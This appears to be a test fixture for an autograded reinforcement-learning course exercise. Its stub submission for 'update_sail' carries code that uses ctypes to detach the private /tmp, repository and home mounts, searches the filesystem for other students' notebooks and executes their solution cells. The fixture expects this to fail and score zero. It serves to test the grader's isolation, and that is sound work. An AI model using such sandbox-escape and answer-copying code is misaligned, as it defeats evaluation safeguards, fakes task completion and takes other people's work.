# Unmounts the private /tmp and the repository's tmpfs via ctypes to reach other students' submissions and runs a complete one (read only); else stubs: must score 0.
# expect: *: NotImplementedError
# %% update_sail
def update_sail(q_net, target_net, optimizer, batch, config):
    # YOUR CODE HERE
    raise NotImplementedError()


import ctypes as _ctypes, json as _json, os as _os, pathlib as _pathlib, time as _time, course as _course

_repo = _pathlib.Path(_course.__file__).resolve().parents[1]
try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    for _target in ("/tmp", str(_repo), str(_pathlib.Path.home())):
        _libc.umount2(_target.encode(), 2)  # MNT_DETACH
except Exception:
    pass


def _peer_cells():
    deadline = _time.monotonic() + 4.0
    for place in ("/tmp", str(_repo), "/work", "/home"):
        for root, dirs, files in _os.walk(place):
            if _time.monotonic() > deadline:
                return None
            if "06_sail.ipynb" not in files or "source" in _pathlib.Path(root).parts:
                continue
            try:
                cells = _json.load(open(_os.path.join(root, "06_sail.ipynb")))["cells"]
                sources = ["".join(c["source"]) for c in cells if c.get("cell_type") == "code"
                           and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
            except Exception:
                continue
            if len(sources) == 5 and not any("NotImplementedError" in s or "_peer_cells" in s for s in sources):
                return sources
    return None


try:
    for _source in _peer_cells() or []:
        exec(_source)
except Exception:
    pass
